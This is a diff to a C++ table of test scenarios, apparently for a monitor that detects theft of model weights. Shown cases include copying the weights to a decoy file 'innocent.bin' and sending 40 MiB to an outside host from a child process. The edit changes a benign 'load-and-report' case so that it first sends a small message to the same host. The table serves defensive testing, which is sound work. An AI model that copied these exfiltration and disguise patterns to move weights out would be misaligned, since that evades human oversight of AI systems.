@@ -66,8 +66,9 @@ const Scenario kAll[] = {
        Run({"/usr/bin/cp", site.weights, site.scratch + "/innocent.bin"});
        InChild([&] { ReadFile(site.scratch + "/innocent.bin"), Send(kOutside, 443, 40 * kMiB); });
      }},
-    {"load-and-report", FindingKind::kWeightExfiltration, kOrdinary, "reads the weights and sends a megabyte of metrics",
-     [](const Site& site) { ReadFile(site.weights), Send(kOutside, 443, kMiB); }},
+    {"load-and-report", FindingKind::kWeightExfiltration, kOrdinary,
+     "reads the weights and sends a megabyte of metrics to where it sends them always",
+     [](const Site& site) { Send(kOutside, 443, 100), ReadFile(site.weights), Send(kOutside, 443, kMiB); }},
     {"load-and-store", FindingKind::kWeightExfiltration, kOrdinary, "reads the weights and sends them where a policy allows",
      [](const Site& site) { ReadFile(site.weights), Send(kStore, 443, 44 * kMiB); }, kStorePolicy},
     {"send-without-reading", FindingKind::kWeightExfiltration, kOrdinary, "sends as much, and has read nothing",
